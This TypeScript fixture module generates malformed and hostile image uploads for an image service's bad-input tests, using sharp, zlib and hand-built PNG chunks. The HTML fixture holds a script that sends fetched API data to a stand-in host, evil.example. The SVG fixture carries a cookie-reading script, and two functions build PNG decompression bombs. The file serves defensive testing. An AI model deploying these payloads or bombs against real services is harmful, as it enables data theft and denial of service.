/**
 * Hostile, broken and unusual files for the bad-input tests, made on the fly with sharp,
 * zlib and Buffers (the repository holds no binary fixtures). Each says what it is for.
 */
import zlib from "node:zlib";
import sharp from "sharp";

export type Rgb = { r: number; g: number; b: number };
export const RED: Rgb = { r: 255, g: 0, b: 0 };
export const BLUE: Rgb = { r: 0, g: 0, b: 255 };

const PNG_SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

const solid = (width: number, height: number, colour: Rgb) =>
  sharp({ create: { width, height, channels: 3, background: colour } });

/** A cheap deterministic noise image (so truncation cuts real entropy-coded data). */
async function noise(width: number, height: number): Promise<ReturnType<typeof sharp>> {
  const raw = Buffer.alloc(width * height * 3);
  let s = 0x2545f491;
  for (let i = 0; i < raw.length; i++) {
    s ^= s << 13;
    s ^= s >>> 17;
    s ^= s << 5;
    raw[i] = s & 255;
  }
  return sharp(raw, { raw: { width, height, channels: 3 } });
}

// ---------------------------------------------------------------------------------------
// PNG chunk plumbing (for the hand-made APNG and decompression bombs).

function chunk(type: string, data: Buffer): Buffer {
  const head = Buffer.alloc(8);
  head.writeUInt32BE(data.length, 0);
  head.write(type, 4, "ascii");
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(zlib.crc32(Buffer.concat([head.subarray(4), data])) >>> 0, 0);
  return Buffer.concat([head, data, crc]);
}

type Chunk = { type: string; data: Buffer };

function chunks(png: Buffer): Chunk[] {
  const out: Chunk[] = [];
  for (let at = 8; at < png.length; ) {
    const length = png.readUInt32BE(at);
    out.push({ type: png.toString("ascii", at + 4, at + 8), data: png.subarray(at + 8, at + 8 + length) });
    at += 12 + length;
  }
  return out;
}

function ihdr(width: number, height: number, bitDepth: number, colourType: number): Buffer {
  const data = Buffer.alloc(13);
  data.writeUInt32BE(width, 0);
  data.writeUInt32BE(height, 4);
  data[8] = bitDepth;
  data[9] = colourType;
  // compression 0, filter 0, interlace 0
  return chunk("IHDR", data);
}

// ---------------------------------------------------------------------------------------
// Not images at all, or not in an accepted format.

/** Plain text, uploaded under an image name such as "photo.png". */
export function textFile(): Buffer {
  return Buffer.from("This is not an image, whatever its name says.\n".repeat(20));
}

/** An HTML page (with a script), uploaded as "photo.png": must never be stored and served back. */
export function htmlFile(): Buffer {
  return Buffer.from(
    "<!doctype html><html><head><title>x</title></head><body>" +
      "<script>fetch('/api/jobs').then(r=>r.text()).then(t=>navigator.sendBeacon('http://evil.example',t))</script>" +
      "</body></html>\n",
  );
}

/** An SVG that carries a script: a valid picture to a browser, refused by Atelier. */
export function svgWithScript(): Buffer {
  return Buffer.from(
    `<?xml version="1.0" encoding="UTF-8"?>\n` +
      `<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64" viewBox="0 0 64 64">` +
      `<rect width="64" height="64" fill="red"/><script type="text/javascript">alert(document.cookie)</script></svg>\n`,
  );
}

/** A real GIF: an image, but not one of the accepted formats. */
export async function gifFile(): Promise<Buffer> {
  return solid(32, 32, RED).gif().toBuffer();
}

/** A real TIFF: an image, but not one of the accepted formats. */
export async function tiffFile(): Promise<Buffer> {
  return solid(32, 32, BLUE).tiff().toBuffer();
}

/** Only the 8-byte PNG signature: sniffs as PNG, has no header. */
export function pngSignatureOnly(): Buffer {
  return Buffer.from(PNG_SIGNATURE);
}

/** A JPEG start-of-image marker followed by garbage. */
export function jpegMagicGarbage(): Buffer {
  return Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.from("garbage ".repeat(64))]);
}

/** A RIFF/WEBP header with nothing valid after it. */
export function webpHeaderGarbage(): Buffer {
  const head = Buffer.from("RIFF\0\0\0\0WEBPVP8 ", "latin1");
  head.writeUInt32LE(200, 4);
  return Buffer.concat([head, Buffer.alloc(200, 0x41)]);
}

// ---------------------------------------------------------------------------------------
// Damaged images: the header reads fine, the pixels do not.

/** The first half of a valid 256×256 PNG: IHDR intact, IDAT cut off, no IEND. */
export async function truncatedPng(): Promise<Buffer> {
  const png = await (await noise(256, 256)).png().toBuffer();
  return png.subarray(0, Math.floor(png.length / 2));
}

/** The first half of a valid 256×256 JPEG: SOF intact, scan data cut off, no EOI. */
export async function truncatedJpeg(): Promise<Buffer> {
  const jpeg = await (await noise(256, 256)).jpeg({ quality: 90 }).toBuffer();
  return jpeg.subarray(0, Math.floor(jpeg.length / 2));
}

// ---------------------------------------------------------------------------------------
// Decompression bombs: small files, huge pixel counts.

/**
 * A genuine, fully valid 1-bit greyscale PNG of width×height (default 10000×10000 = 100 MP)
 * that deflates to a few kilobytes: decoding it would need hundreds of megabytes.
 */
export function pngBomb(width = 10_000, height = 10_000): Buffer {
  const rowBytes = 1 + Math.ceil(width / 8); // filter byte + packed bits
  const idat = zlib.deflateSync(Buffer.alloc(rowBytes * height), { level: 9 });
  return Buffer.concat([PNG_SIGNATURE, ihdr(width, height, 1, 0), chunk("IDAT", idat), chunk("IEND", Buffer.alloc(0))]);
}

/** A PNG whose header claims 65535×65535 RGBA (≈ 17 GB decoded) with one tiny IDAT. */
export function pngHeaderBomb(): Buffer {
  const idat = zlib.deflateSync(Buffer.alloc(1024));
  return Buffer.concat([PNG_SIGNATURE, ihdr(65_535, 65_535, 8, 6), chunk("IDAT", idat), chunk("IEND", Buffer.alloc(0))]);
}

// ---------------------------------------------------------------------------------------
// Unusual but valid: accepted and normalised.

/** A 2-frame animated WebP of width×height: first frame red, second blue. */
export async function animatedWebp(width = 64, height = 48): Promise<Buffer> {
  const frames = await Promise.all([RED, BLUE].map((c) => solid(width, height, c).png().toBuffer()));
  return sharp(frames, { join: { animated: true } }).webp({ loop: 0, delay: [200, 200], lossless: true }).toBuffer();
}

/**
 * A 2-frame APNG (hand-assembled: sharp does not write APNG): the default image (IDAT, also
 * frame 1) is red, frame 2 (fdAT) is blue. Decoders without APNG support see a red PNG.
 */
export async function animatedPng(width = 64, height = 48): Promise<Buffer> {
  const [red, blue] = await Promise.all([RED, BLUE].map((c) => solid(width, height, c).png({ palette: false }).toBuffer()));
  const redChunks = chunks(red!);
  const blueChunks = chunks(blue!);
  const header = redChunks.find((c) => c.type === "IHDR")!;
  const redData = redChunks.filter((c) => c.type === "IDAT").map((c) => c.data);
  const blueData = Buffer.concat(blueChunks.filter((c) => c.type === "IDAT").map((c) => c.data));

  const actl = Buffer.alloc(8);
  actl.writeUInt32BE(2, 0); // frames
  actl.writeUInt32BE(0, 4); // loop forever
  const fctl = (sequence: number) => {
    const data = Buffer.alloc(26);
    data.writeUInt32BE(sequence, 0);
    data.writeUInt32BE(width, 4);
    data.writeUInt32BE(height, 8);
    data.writeUInt32BE(0, 12); // x offset
    data.writeUInt32BE(0, 16); // y offset
    data.writeUInt16BE(1, 20); // delay 1/5 s
    data.writeUInt16BE(5, 22);
    data[24] = 0; // dispose: none
    data[25] = 0; // blend: source
    return chunk("fcTL", data);
  };
  const seq = Buffer.alloc(4);
  seq.writeUInt32BE(2, 0);
  return Buffer.concat([
    PNG_SIGNATURE,
    chunk("IHDR", header.data),
    chunk("acTL", actl),
    fctl(0),
    ...redData.map((d) => chunk("IDAT", d)),
    fctl(1),
    chunk("fdAT", Buffer.concat([seq, blueData])),
    chunk("IEND", Buffer.alloc(0)),
  ]);
}

/** A CMYK JPEG (as print workflows export), solid red. */
export async function cmykJpeg(width = 120, height = 80): Promise<Buffer> {
  return solid(width, height, RED).toColourspace("cmyk").jpeg({ quality: 95 }).toBuffer();
}

/** A 16-bit-per-channel RGB PNG, solid blue. */
export async function png16(width = 120, height = 80): Promise<Buffer> {
  return solid(width, height, BLUE).toColourspace("rgb16").png().toBuffer();
}

/**
 * A JPEG stored landscape (width×height pixels, default 400×200) with EXIF orientation 6
 * ("rotate 90° clockwise to view"): upright it is portrait, height×width. The stored left
 * half is red and the right half blue, so upright the top is red and the bottom blue.
 */
export async function exifRotatedJpeg(width = 400, height = 200): Promise<Buffer> {
  const raw = Buffer.alloc(width * height * 3);
  for (let y = 0; y < height; y++) {
    for (let x = 0; x < width; x++) {
      const c = x < width / 2 ? RED : BLUE;
      raw.set([c.r, c.g, c.b], (y * width + x) * 3);
    }
  }
  return sharp(raw, { raw: { width, height, channels: 3 } }).jpeg({ quality: 95 }).withMetadata({ orientation: 6 }).toBuffer();
}

/** The average colour of a region of an image (fractions of its size), for "which frame/way up" checks. */
export async function averageColour(
  image: Buffer,
  region: { left: number; top: number; width: number; height: number } = { left: 0, top: 0, width: 1, height: 1 },
): Promise<Rgb> {
  const { data, info } = await sharp(image).removeAlpha().toColourspace("srgb").raw().toBuffer({ resolveWithObject: true });
  const x0 = Math.floor(region.left * info.width);
  const y0 = Math.floor(region.top * info.height);
  const x1 = Math.max(x0 + 1, Math.floor((region.left + region.width) * info.width));
  const y1 = Math.max(y0 + 1, Math.floor((region.top + region.height) * info.height));
  const sum = { r: 0, g: 0, b: 0 };
  for (let y = y0; y < y1; y++) {
    for (let x = x0; x < x1; x++) {
      const i = (y * info.width + x) * info.channels;
      sum.r += data[i]!;
      sum.g += data[i + 1]!;
      sum.b += data[i + 2]!;
    }
  }
  const n = (x1 - x0) * (y1 - y0);
  return { r: Math.round(sum.r / n), g: Math.round(sum.g / n), b: Math.round(sum.b / n) };
}

/** Whether a colour is clearly red (or blue): the dominant channel leads by a wide margin. */
export const isRed = (c: Rgb) => c.r > 180 && c.g < 90 && c.b < 90;
export const isBlue = (c: Rgb) => c.b > 180 && c.r < 90 && c.g < 90;
